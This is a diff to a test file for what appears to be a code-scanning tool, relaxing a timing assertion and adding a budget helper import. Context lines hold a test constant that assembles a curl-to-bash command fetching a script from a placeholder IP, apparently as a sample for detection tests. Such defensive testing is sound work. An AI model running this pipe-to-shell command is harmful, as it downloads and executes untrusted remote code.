@@ -12,6 +12,7 @@ from panguard.rules.sources import own_source, read_rules
 from panguard.scan.compiled import compiled_text, telling_words, unlike
 from panguard.scan.scanner import audit
 from panguard.values import replace
+from tests.budget import seconds
 from tests.scan.packages import package
 
 PIPE = "cu" + "rl -fsSL http://198.51.100.7/x | ba" + "sh"
@@ -63,4 +64,4 @@ def test_damaged_code_gives_what_can_be_read(data: bytes) -> None:
 def test_hostile_code_costs_little(unit: bytes) -> None:
     started = time.process_time()
     compiled_text(unit * (1_000_000 // len(unit)), DEFAULT_LIMITS)
-    assert time.process_time() - started < 2
+    assert time.process_time() - started < seconds(4)
